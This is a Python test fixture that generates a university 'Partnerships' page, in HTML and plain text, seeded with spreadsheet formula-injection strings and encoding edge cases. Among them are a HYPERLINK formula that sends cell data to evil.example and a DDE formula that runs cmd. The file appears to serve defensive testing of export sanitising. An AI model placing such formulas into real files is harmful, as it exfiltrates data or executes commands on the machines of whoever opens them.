"""A page whose names, texts and links would be formulas, numbers or nothing to whoever reads them as cells."""

from __future__ import annotations

import html

# By what each tries to be. They stand as titles, first and last words of paragraphs, links, captions and roles.
TEXTS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"Partner")',
    "command": "=cmd|' /C calc'!A0",
    "function": "@SUM(1+1)*cmd",
    "plus": "+1+1 University",
    "minus": "-2+3 University",
    "wide": "＝1+1 und ＠SUM",
    "quoted": "'=1+1",
    "typographic": "’=1+1",
    "second-cell": "University of Bonn;=1+1;@SUM(A1)",
    "tab": "\t=1+1",
    "return": "University\r=1+1",
    "missing": "NA",
    "none": "None",
    "zeros": "007",
    "exponent": "1e5",
    "digits": "12345678901234567890",
    "bidi": "\u202e=1+1\u202c \u2066@SUM\u2069",
    "zero-width": "\u200b=1+1\ufeff",
    "quotes": '"=1+1","',
}
# As only HTML can write them: NUL, halves of surrogate pairs, tabulator and carriage return.
REFERENCES = {"nul": "&#0;=1+1 \0", "half-pair": "&#xD800;=1+1 &#xDFFF;", "controls": "&#9;=1+1 &#13;=2"}
# More than the 32,767 characters that a cell of a workbook can hold.
LONG = "=" + "1+" * 20_000 + "1"
SENTENCE = "The partnership with the University of Bonn has been running since 2014."


def as_html() -> bytes:
    """The page as HTML; the texts are also where links lead to."""
    texts = [*map(html.escape, TEXTS.values()), *REFERENCES.values()]
    blocks = "\n".join(
        f"<h3>{text}</h3>\n<p>{text} {SENTENCE} {text}</p>\n"
        f'<p><a href="{text}">{text}</a></p>\n<figure><figcaption>{text}</figcaption></figure>\n'
        f"<p>Contact: Prof. Dr. Ann Lee, {text}, Tel. +49 351 463-{number}</p>"
        for number, text in enumerate(texts, start=30001)
    )
    long = f"<h3>University of Cologne</h3>\n<p>{LONG}</p>\n<p>Since 2015.</p>"
    return (
        '<!DOCTYPE html><html lang="en"><head><title>Partnerships</title></head><body><main>\n<h1>Partnerships</h1>\n'
        f"<h2>=Strategic</h2>\n{blocks}\n{long}\n</main></body></html>"
    ).encode()


def as_text() -> bytes:
    """The page as flat text."""
    blocks = "\n\n".join(
        f"{text}\n{text} {SENTENCE} {text}\n"
        f"Contact: Prof. Dr. Ann Lee, {text}, Tel. +49 351 463-{number}\nfurther information"
        for number, text in enumerate(TEXTS.values(), start=30001)
    )
    return f"Partnerships\n\n{blocks}\n\nUniversity of Cologne\n{LONG}\nSince 2015.\n".encode()
